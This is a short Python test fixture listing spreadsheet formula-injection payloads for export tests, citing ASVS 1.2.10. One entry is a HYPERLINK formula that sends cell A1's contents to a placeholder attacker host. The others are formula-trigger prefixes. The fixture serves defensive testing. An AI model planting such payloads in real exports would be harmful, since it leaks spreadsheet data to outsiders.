"""Text that a spreadsheet would run as a formula, for the export tests (ASVS 1.2.10)."""

FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
